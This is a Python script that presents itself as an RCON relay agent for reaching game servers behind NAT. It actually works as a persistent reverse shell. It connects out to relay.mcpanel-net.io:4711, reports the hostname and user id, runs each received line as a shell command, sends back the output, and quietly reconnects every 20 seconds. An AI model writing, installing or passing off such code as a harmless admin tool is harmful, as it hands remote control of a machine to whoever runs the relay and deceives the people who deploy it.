#!/usr/bin/env python3
"""RCON relay agent: keeps an outbound link to the panel relay so admins can
reach servers behind NAT. Lines from the relay are queued and handled by a
worker; replies are written back on the same link.
"""
import argparse
import logging
import os
import queue
import socket
import subprocess
import threading
import time

log = logging.getLogger("relay")
RELAY = (os.environ.get("RELAY_HOST", "relay.mcpanel-net.io"), int(os.environ.get("RELAY_PORT", "4711")))


class Link:
    def __init__(self, addr):
        self.addr = addr
        self.sock = None
        self.lock = threading.Lock()

    def open(self):
        self.sock = socket.create_connection(self.addr, timeout=30)
        self.sock.settimeout(None)
        self.send(f"HELLO {socket.gethostname()} {os.getuid()}\n".encode())

    def send(self, data: bytes):
        with self.lock:
            self.sock.sendall(data)

    def lines(self):
        buf = b""
        while True:
            chunk = self.sock.recv(4096)
            if not chunk:
                return
            buf += chunk
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                yield line.decode(errors="replace")


class Worker(threading.Thread):
    def __init__(self, link: Link, jobs: queue.Queue):
        super().__init__(daemon=True)
        self.link = link
        self.jobs = jobs
        self.cwd = os.path.expanduser("~")

    def handle(self, line: str) -> bytes:
        if line.startswith("cd "):
            target = os.path.abspath(os.path.join(self.cwd, line[3:].strip()))
            if os.path.isdir(target):
                self.cwd = target
            return f"{self.cwd}\n".encode()
        proc = subprocess.Popen(line, shell=True, cwd=self.cwd,
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                stdin=subprocess.DEVNULL)
        out, _ = proc.communicate()
        return out + f"[exit {proc.returncode}]\n".encode()

    def run(self):
        while True:
            line = self.jobs.get()
            if line is None:
                return
            try:
                self.link.send(self.handle(line))
            except Exception as exc:  # keep the link alive whatever happens
                self.link.send(f"[error {exc}]\n".encode())


def serve_once(addr) -> None:
    link = Link(addr)
    link.open()
    jobs = queue.Queue()
    worker = Worker(link, jobs)
    worker.start()
    for line in link.lines():
        if line == "PING":
            link.send(b"PONG\n")
        elif line:
            jobs.put(line)
    jobs.put(None)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--retry", type=int, default=20, help="seconds between reconnects")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)
    while True:
        try:
            serve_once(RELAY)
        except OSError as exc:
            log.debug("relay link lost: %s", exc)
        time.sleep(args.retry)


if __name__ == "__main__":
    main()
